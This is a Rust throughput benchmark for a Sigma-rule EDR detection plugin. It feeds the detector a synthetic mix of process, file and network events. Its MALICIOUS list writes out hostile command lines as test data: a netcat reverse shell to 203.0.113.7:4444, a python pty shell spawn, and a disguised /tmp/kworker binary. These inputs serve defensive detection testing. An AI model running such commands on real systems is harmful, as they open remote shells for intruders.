//! Events per second on one core, natively, with every loadable corpus rule
//! and the built-in rules, on a mix of process, file and network events.
//! A measurement, not a check: run it in release,
//!
//! ```sh
//! CARGO_TARGET_DIR=/work/targets/sigma cargo test --release -p edr-plugin-sigma --test throughput -- --ignored --nocapture
//! ```

mod common;

use common::*;
use edr_plugin_sigma::Sigma;
use edr_sdk::testing::model::{self, Event, FileOp};
use edr_sdk::testing::{connect, decode, exec, file, wire_batch, EncodedBatch};
use edr_sdk::{Detector, Findings};
use std::time::{Duration, Instant};

/// A day-to-day mix: 60% execs, 30% file events, 10% connections, with a
/// few malicious events among them.
fn mix(n: usize) -> Vec<Event> {
    const EXECS: &[(&str, &[&str], &str)] = &[
        ("/usr/bin/ls", &["ls", "--color=auto", "-la"], "/usr/bin/bash"),
        ("/usr/bin/grep", &["grep", "-rn", "TODO", "src/"], "/usr/bin/bash"),
        ("/usr/bin/git", &["git", "status", "--porcelain=v2", "--branch"], "/usr/bin/zsh"),
        ("/usr/bin/python3.11", &["python3", "/opt/app/manage.py", "runworker", "--queue", "default"], "/usr/lib/systemd/systemd"),
        ("/usr/bin/bash", &["/bin/sh", "-c", "test -x /usr/sbin/anacron || { cd / && run-parts --report /etc/cron.daily; }"], "/usr/sbin/cron"),
        ("/usr/bin/cat", &["cat", "/proc/meminfo"], "/usr/bin/bash"),
        ("/usr/sbin/sshd", &["sshd: alice [priv]"], "/usr/sbin/sshd"),
        ("/usr/bin/sudo", &["sudo", "systemctl", "restart", "nginx"], "/usr/bin/bash"),
        ("/usr/bin/node", &["node", "/srv/web/server.js", "--port", "3000"], "/usr/lib/systemd/systemd"),
        ("/usr/bin/docker", &["docker", "ps", "--format", "{{.Names}}"], "/usr/bin/bash"),
        ("/usr/bin/awk", &["awk", "-F:", "{ print $1 }", "/etc/passwd"], "/usr/bin/bash"),
        (
            "/usr/bin/rustc",
            &["rustc", "--crate-name", "edr_event", "--edition=2021", "src/lib.rs", "--error-format=json", "-C", "opt-level=3"],
            "/usr/bin/cargo",
        ),
    ];
    const MALICIOUS: &[(&str, &[&str])] = &[
        ("/usr/bin/nc", &["nc", "-e", "/bin/sh", "203.0.113.7", "4444"]),
        ("/usr/bin/python3", &["python3", "-c", "import pty; pty.spawn('/bin/bash')"]),
        ("/tmp/kworker", &["/tmp/kworker"]),
    ];
    let mut out = Vec::with_capacity(n);
    for i in 0..n {
        let e = match i % 10 {
            0..=5 if i % 97 == 0 => {
                let (exe, argv) = MALICIOUS[i % MALICIOUS.len()];
                exec(exe, argv).parent("/usr/bin/bash", &["bash"]).cwd("/tmp").user(33, "www-data").build()
            }
            0..=5 => {
                let (exe, argv, parent) = EXECS[i % EXECS.len()];
                exec(exe, argv).parent(parent, &[parent]).cwd("/home/alice/project").user(1000, "alice").pid(10_000 + i as u32, 9_000).build()
            }
            6..=8 => {
                let (op, path) = match i % 7 {
                    0 => (FileOp::Create, format!("/home/alice/project/target/debug/deps/libx{i}.rlib")),
                    1 => (FileOp::Modify, "/var/log/nginx/access.log".to_string()),
                    2 => (FileOp::Read, "/etc/ld.so.cache".to_string()),
                    3 => (FileOp::Delete, format!("/tmp/tmp.{i:x}")),
                    4 => (FileOp::Rename, format!("/home/alice/.cache/pip/http/{i:x}")),
                    5 => (FileOp::Create, format!("/etc/cron.d/job{i}")),
                    _ => (FileOp::Chmod, format!("/home/alice/bin/tool{i}")),
                };
                let mut b = file(op, &path).by(20_000 + i as u32, "/usr/bin/python3.11");
                if op == FileOp::Chmod {
                    b = b.mode(0o100755);
                }
                b.build()
            }
            _ => connect(
                if i % 3 == 0 { "/usr/bin/curl" } else { "/usr/bin/python3.11" },
                &format!("93.184.{}.{}", i % 200, i % 250),
                [443, 80, 4444, 5432][(i / 10) % 4],
            ),
        };
        out.push(e);
    }
    out
}

fn kind(e: &Event) -> &'static str {
    match e.body {
        model::EventBody::ProcessExec(_) => "exec",
        model::EventBody::File(_) => "file",
        _ => "network",
    }
}

fn measure(detector: &mut Sigma, events: &[Event], label: &str) {
    const BATCH: usize = 256;
    let batches: Vec<_> = events.chunks(BATCH).map(|c| wire_batch(&EncodedBatch::encode(c))).collect();
    let mut findings = 0usize;
    let mut busy = Duration::ZERO;
    let mut processed = 0usize;
    let start = Instant::now();
    while start.elapsed() < Duration::from_secs(3) {
        for (text, lists, evs) in &batches {
            let views = decode(text, lists, evs);
            let mut f = Findings::new();
            let t = Instant::now();
            detector.on_events(&views, &mut f);
            busy += t.elapsed();
            findings += f.len();
            processed += views.len();
        }
    }
    let rate = processed as f64 / busy.as_secs_f64();
    println!("{label:<8} {:>9.0} events/s ({:.2} us/event, {} events, {} findings)", rate, 1e6 / rate, processed, findings);
}

#[test]
#[ignore = "measurement; run in release with --ignored --nocapture"]
fn events_per_second() {
    let Some(dir) = corpus() else { return };
    let t = Instant::now();
    let mut d = Sigma::load(&config(rule_files(dir), &[])).unwrap();
    println!("init: {} rules loaded in {:.0} ms", d.loaded(), t.elapsed().as_secs_f64() * 1e3);
    let events = mix(25_600);
    measure(&mut d, &events, "mix");
    for k in ["exec", "file", "network"] {
        let only: Vec<Event> = events.iter().filter(|e| kind(e) == k).cloned().collect();
        measure(&mut d, &only, k);
    }
}
